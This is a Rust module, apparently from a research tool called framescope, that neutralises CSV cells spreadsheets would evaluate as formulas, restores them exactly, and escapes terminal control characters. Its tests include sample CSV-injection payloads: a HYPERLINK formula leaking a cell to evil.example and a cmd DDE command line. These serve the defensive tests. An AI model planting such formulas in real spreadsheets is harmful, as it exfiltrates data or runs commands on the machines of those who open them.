//! Making text safe for where it goes: CSV cells a spreadsheet would execute, and control
//! characters on a terminal.
//!
//! **CSV formula neutralisation** (the OWASP convention): a cell whose text starts with `=`,
//! `+`, `-`, `@`, a tab or a carriage return and is not a number is written with a leading
//! `'`, which Excel and LibreOffice show as text instead of evaluating (`=HYPERLINK(…)` in a
//! scraped headline would otherwise run when a researcher opens scores.csv). A text that
//! already starts with `'` followed by such a cell gets one more `'`, so [`restore`] undoes
//! [`neutralise`] exactly and framescope reads its own tables back unchanged. Raw cells
//! ([`CellPolicy::Raw`], `--raw-csv`) are for pipelines that never meet a spreadsheet.
//! [`CellGuard`] (writer.rs) applies it to the bytes a CSV writer produces.

mod writer;

pub use writer::CellGuard;

use std::borrow::Cow;
use std::sync::atomic::{AtomicBool, Ordering};

/// How CSV cells are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CellPolicy {
    /// Cells a spreadsheet would execute get a leading `'` (the default).
    #[default]
    Neutralise,
    /// Cells are written as they are.
    Raw,
}

static RAW: AtomicBool = AtomicBool::new(false);

impl CellPolicy {
    /// The policy every CSV writer of this process uses. One setting for the process because
    /// every table must follow it (a table written raw beside neutralised ones could not be
    /// read back consistently); the front end sets it once from `--raw-csv`.
    pub fn current() -> CellPolicy {
        if RAW.load(Ordering::Relaxed) {
            CellPolicy::Raw
        } else {
            CellPolicy::Neutralise
        }
    }

    pub fn set(self) {
        RAW.store(self == CellPolicy::Raw, Ordering::Relaxed);
    }
}

/// A plain decimal number (`-0.5`, `+3`, `1e-6`): spreadsheets read it as a number, so it is
/// left alone. `inf`, `NaN` and the like are not numbers here.
fn is_number(b: &[u8]) -> bool {
    let mut i = usize::from(matches!(b.first(), Some(b'+' | b'-')));
    let digits = |i: &mut usize| {
        let start = *i;
        while *i < b.len() && b[*i].is_ascii_digit() {
            *i += 1;
        }
        *i - start
    };
    let mut n = digits(&mut i);
    if i < b.len() && b[i] == b'.' {
        i += 1;
        n += digits(&mut i);
    }
    if n == 0 {
        return false;
    }
    if i < b.len() && matches!(b[i], b'e' | b'E') {
        i += 1;
        if i < b.len() && matches!(b[i], b'+' | b'-') {
            i += 1;
        }
        if digits(&mut i) == 0 {
            return false;
        }
    }
    i == b.len()
}

/// Whether a cell needs the leading `'`.
fn needs_quote(s: &str) -> bool {
    needs_quote_bytes(s.as_bytes())
}

/// [`needs_quote`] on a cell's bytes. Only ASCII bytes decide it (the first bytes and the
/// number syntax), so a cell that is not valid UTF-8 gets the same answer as its lossy text.
fn needs_quote_bytes(b: &[u8]) -> bool {
    match b.first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => !is_number(b),
        Some(b'\'') => needs_quote_bytes(&b[1..]),
        _ => false,
    }
}

/// The cell as written under the current policy.
pub fn neutralise(s: &str) -> Cow<'_, str> {
    if CellPolicy::current() == CellPolicy::Neutralise && needs_quote(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// The original text of a cell framescope wrote (in either policy: a raw cell that starts
/// with `'` followed by a dangerous character cannot be told apart, and is read as
/// neutralised).
pub fn restore(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => s,
    }
}

/// Control characters (ESC, BEL, CR, …, and DEL; tabs stay) shown as `\u{1b}`-style
/// escapes, so a scraped id or title cannot move the cursor or recolour a terminal.
pub fn escape_control(s: &str) -> Cow<'_, str> {
    let unsafe_char = |c: char| c.is_control() && c != '\t';
    if !s.chars().any(unsafe_char) {
        return Cow::Borrowed(s);
    }
    Cow::Owned(
        s.chars()
            .map(|c| {
                if unsafe_char(c) {
                    format!("\\u{{{:x}}}", c as u32)
                } else {
                    c.to_string()
                }
            })
            .collect(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_quoted_and_numbers_are_not() {
        for (raw, want) in [
            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK("),
            ("+cmd|' /C calc'!A0", "'+cmd"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
            ("-inf", "'-inf"),
        ] {
            assert!(needs_quote(raw), "{raw}");
            assert!(format!("'{raw}").starts_with(want));
        }
        for ok in [
            "-0.500000",
            "+3",
            "1e-6",
            "-1.5E+3",
            "Kyiv",
            "'quoted'",
            "",
            "a=b",
            "- ",
        ] {
            assert_eq!(needs_quote(ok), ok == "- ", "{ok}");
        }
    }

    #[test]
    fn restore_undoes_neutralise_exactly() {
        for s in [
            "=1+1", "'=1+1", "''=x", "'x", "x", "-3", "-x", "'", "''", "@", "'@", "\t", "=", "'-",
        ] {
            let w = if needs_quote(s) { format!("'{s}") } else { s.to_string() };
            assert_eq!(restore(&w), s, "{s:?} written as {w:?}");
        }
    }

    #[test]
    fn control_characters_are_escaped_for_the_terminal() {
        assert_eq!(escape_control("id\u{1b}[31m\u{7}x"), "id\\u{1b}[31m\\u{7}x");
        assert!(matches!(escape_control("plain café"), Cow::Borrowed(_)));
    }
}
